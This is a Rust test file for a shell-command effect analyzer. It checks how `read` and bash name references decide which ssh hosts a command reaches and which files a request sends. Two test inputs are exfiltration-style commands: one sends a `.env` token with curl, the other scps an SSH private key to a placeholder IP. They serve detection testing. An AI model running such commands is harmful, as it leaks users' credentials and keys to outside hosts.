//! Variables set by `read` from input the line fixes, and name references
//! (`declare -n`, `local -n`). Run in `/home/dana/acme-web` with home
//! `/home/dana`.

#![allow(clippy::panic)]

use crate::common;
use common::*;

/// The hosts `ssh` reaches in `command`.
fn ssh_hosts(command: &str) -> Vec<String> {
    effects(command)
        .iter()
        .filter(|e| e["effect"] == "request" && e["program"] == "ssh")
        .filter_map(|e| e["target"]["host"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn read_sets_variables_from_a_here_string() {
    // `-a`: an array of the fields, which a loop runs over.
    assert_eq!(
        ssh_hosts(
            "read -r -a hosts <<< \"web-1.stg.acme.internal web-2.stg.acme.internal\"; for h in \"${hosts[@]}\"; do ssh \"deploy@${h}\" uptime; done"
        ),
        vec!["web-1.stg.acme.internal", "web-2.stg.acme.internal"]
    );
    // Names take a field each, the last the rest of the line.
    assert_eq!(
        ssh_hosts(
            "read -r user host rest <<< 'deploy db-1.acme.internal extra words'; ssh \"$user@$host\" uptime"
        ),
        vec!["db-1.acme.internal"]
    );
    // On IFS the line sets.
    assert_eq!(
        ssh_hosts("IFS=, read -r a b <<< 'x.acme.internal,y.acme.internal'; ssh \"$b\" uptime"),
        vec!["y.acme.internal"]
    );
    // `REPLY` when no name is given.
    assert_eq!(
        ssh_hosts("read <<< 'ops.acme.internal'; ssh \"$REPLY\" uptime"),
        vec!["ops.acme.internal"]
    );
}

#[test]
fn read_of_unknown_input_carries_what_the_input_carries() {
    let sent =
        effects("read -r token < .env; curl -H \"X-Token: $token\" https://api.example.net/v1");
    let request = sent
        .iter()
        .find(|e| e["effect"] == "request")
        .unwrap_or_else(|| panic!("{sent:?}"));
    assert_eq!(
        request["payload"]["files"][0]["path"],
        at(".env"),
        "{sent:?}"
    );
}

#[test]
fn a_name_reference_stands_for_the_variable_it_names() {
    let command = "push_key() { local -n ref=$1; scp -q \"$ref\" \"root@203.0.113.40:/root/k\"; }; key=~/.ssh/id_ed25519; push_key key";
    let sent = effects(command);
    let request = sent
        .iter()
        .find(|e| e["effect"] == "request")
        .unwrap_or_else(|| panic!("{sent:?}"));
    assert_eq!(
        request["payload"]["files"][0]["path"], "/home/dana/.ssh/id_ed25519",
        "{sent:?}"
    );
    assert_eq!(
        ssh_hosts("target=ops.acme.internal; declare -n t=target; ssh \"$t\" uptime"),
        vec!["ops.acme.internal"]
    );
}
